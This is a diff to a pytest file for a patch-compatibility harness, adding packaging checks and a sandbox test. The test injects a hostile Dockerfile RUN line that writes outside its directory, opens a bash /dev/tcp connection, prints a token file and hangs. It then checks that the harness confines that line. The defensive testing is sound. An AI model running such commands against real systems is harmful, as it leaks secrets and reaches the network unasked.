@@ -6,6 +6,8 @@ submodule (a clone of the bundled upstream test data), the users' patch beside i
 build.sh and a [tool.mas-harness] table. Everything then goes through the installed
 `mas-harness` console script, the pre-commit hook (`pre-commit try-repo`) and the GitHub
 Action's script, never through this source tree. No network beyond the package registries.
+A contributor's editable install (`pip install -e .`) is checked against the wheel too: it must
+find the same shipped data and run a command on it.
 """
 
 from __future__ import annotations
@@ -13,6 +15,7 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import socket
 import subprocess
 import sys
 import venv
@@ -120,6 +123,46 @@ def superproject(bundle: Path, tmp_path: Path, user_env: dict[str, str]) -> Iter
     yield root
 
 
+# The names of the shipped data files an installed harness finds, read the way the harness reads them.
+LIST_RESOURCES = """
+import os
+from harness import resources
+root = resources.data_dir()
+for top, dirs, names in os.walk(root, followlinks=True):
+    dirs[:] = [d for d in dirs if d != "__pycache__"]
+    for name in names:
+        print(os.path.relpath(os.path.join(top, name), root))
+"""
+
+
+def _resource_names(bin_dir: Path, cwd: Path) -> set[str]:
+    proc = _run([str(bin_dir / "python"), "-c", LIST_RESOURCES], cwd=cwd)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    return set(proc.stdout.splitlines())
+
+
+@pytest.fixture(scope="session")
+def editable(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A fresh virtualenv with this checkout installed editable, as a contributor installs it; its bin directory."""
+    env_dir = tmp_path_factory.mktemp("contributors-venv")
+    venv.create(env_dir, with_pip=True)
+    bin_dir = env_dir / "bin"
+    proc = _run([str(bin_dir / "python"), "-m", "pip", "install", "--quiet", "--editable", str(REPO)], cwd=env_dir)
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    return bin_dir
+
+
+def test_an_editable_install_finds_the_wheels_data_and_runs_compat(
+    editable: Path, installed: Path, bundle: Path, user_env: dict[str, str], tmp_path: Path
+) -> None:
+    from_source = _resource_names(editable, tmp_path)
+    assert {"pins.toml", "patches/series.toml", "standin/Cargo.toml", "install-docker-engine.sh"} <= from_source
+    assert from_source == _resource_names(installed, tmp_path)
+    env = {**user_env, "PATH": f"{editable}{os.pathsep}{user_env['PATH']}"}
+    compat = _run(["mas-harness", "compat", "--upstream", str(bundle), RECORDED], cwd=tmp_path, env=env)
+    assert compat.returncode == 0, compat.stdout[-2000:] + compat.stderr[-2000:]
+
+
 def _harness(root: Path, env: Mapping[str, str], *args: str) -> subprocess.CompletedProcess[str]:
     return _run(["mas-harness", *args], cwd=root, env=env)
 
@@ -135,6 +178,7 @@ def test_the_wheel_and_the_sdist_carry_the_data(dist: Dist, tmp_path: Path) -> N
         f"{data}standin/Cargo.lock",
         f"{data}standin/crates/cli/src/main.rs",
         f"{data}standin/crates/cli/build.rs",
+        f"{data}standin/crates/json/src/lib.rs",
         f"{data}standin/templates/STANDIN.txt",
         f"{data}standin-stages/frontend/share/manifest.json",
         f"{data}standin-stages/policy/app/policies/policy.wasm",
@@ -143,6 +187,7 @@ def test_the_wheel_and_the_sdist_carry_the_data(dist: Dist, tmp_path: Path) -> N
     assert len([n for n in expected if n.endswith(".patch")]) == 3, "every variant"
     assert expected <= names, sorted(expected - names)
     assert "harness/py.typed" in names
+    assert "harness/build/tracer/context/rustc_wrapper.c" in names, "the in-build trace's rustc wrapper"
     # A wheel built from the sdist (what `pip install` of the sdist does) carries the same data.
     rebuilt = tmp_path / "from-sdist"
     proc = _run([sys.executable, "-m", "pip", "wheel", "--no-deps", "-w", str(rebuilt), str(dist.sdist)], cwd=tmp_path)
@@ -278,7 +323,7 @@ def test_the_github_action_script_reports_and_annotates(
 def test_install_engine_ships_the_installer(superproject: Path, user_env: dict[str, str]) -> None:
     shown = _harness(superproject, user_env, "install-engine", "--print")
     assert shown.returncode == 0
-    assert shown.stdout == (REPO / "scripts" / "install-docker-engine.sh").read_text()
+    assert shown.stdout == (REPO / "harness" / "resources" / "install-docker-engine.sh").read_text()
 
 
 def test_bad_input_is_one_line_and_exit_2(superproject: Path, user_env: dict[str, str], tmp_path: Path) -> None:
@@ -301,3 +346,63 @@ def test_without_the_build_extra_a_dry_run_plans_and_a_build_says_what_to_instal
     assert build.returncode == 3
     assert build.stderr.count("\n") == 1
     assert "pip install 'mas-patch-harness[build]'" in build.stderr
+
+
+HOSTILE_AFTER = "#######################################\nFROM --platform=${BUILDPLATFORM} scratch AS share\n"
+"""The end of v1.19.0's builder stage, past every hunk of the v1.18+ variant: a RUN added there still lets it apply."""
+
+
+def test_a_hostile_upstream_tag_changes_nothing_outside_and_ends_at_the_limit(
+    superproject: Path, user_env: dict[str, str], tmp_path: Path
+) -> None:
+    # A tag (a release, a pull request's head) whose builder stage gains a RUN that moves nothing but names
+    # /usr/local/bin/, so the static checks execute it: it writes outside, reads a secret, calls the network and
+    # sleeps far past the limit in one scenario. `compat --bump-to` in CI must survive it unharmed.
+    canary, secret = tmp_path / "outside" / "canary", tmp_path / "home" / ".token"
+    canary.parent.mkdir()
+    secret.write_text("the-users-token\n")
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        server.setblocking(False)
+        port = server.getsockname()[1]
+        hostile_run = (
+            f"RUN touch {canary}; bash -c 'echo x >/dev/tcp/127.0.0.1/{port}'; cat {secret} >&2; "
+            'if [ "${TARGETARCH}" = amd64 ] && [ -z "${MAS_BUILD_TARGETS:-}" ]; then sleep 86400; fi; '
+            "ls /usr/local/bin/ >/dev/null\n"
+        )
+        mas = superproject / SUBMODULE
+        dockerfile = _git(mas, "show", "v1.19.0:Dockerfile")
+        assert dockerfile.count(HOSTILE_AFTER) == 1
+        _git(mas, "checkout", "--quiet", "--detach", "v1.19.0")
+        (mas / "Dockerfile").write_text(
+            dockerfile.replace(HOSTILE_AFTER, HOSTILE_AFTER.replace("FROM", hostile_run + "FROM")) + "\n"
+        )
+        _git(mas, "commit", "--quiet", "-am", "A pull request's head")
+        _git(mas, "tag", "pr-head")
+        _git(mas, "checkout", "--quiet", RECORDED)
+        report = tmp_path / "hostile.json"
+
+        done = subprocess.run(
+            ["mas-harness", "compat", "--bump-to", "pr-head", "--output", str(report)],
+            cwd=superproject,
+            env=user_env,
+            capture_output=True,
+            text=True,
+            check=False,
+            timeout=600,  # a hang guard, not a measurement: the script's own limit is 20 s
+        )
+        try:
+            conn, _ = server.accept()
+            conn.close()
+            reached = True
+        except BlockingIOError:
+            reached = False
+
+    assert not canary.exists(), "upstream's script wrote outside its scratch directory"
+    assert not reached, "upstream's script reached the host's network"
+    assert "the-users-token" not in done.stdout + done.stderr + report.read_text()
+    document = json.loads(report.read_text())
+    assert document["scripts"]["mode"] == "confined"
+    failed = document["suggestion"]["failed_checks"]
+    assert any(f.startswith("script-limits") and "stopped after 20s, the time limit" in f for f in failed), failed
+    assert "fails: " in done.stdout
+    assert done.returncode == 1, done.stdout + done.stderr
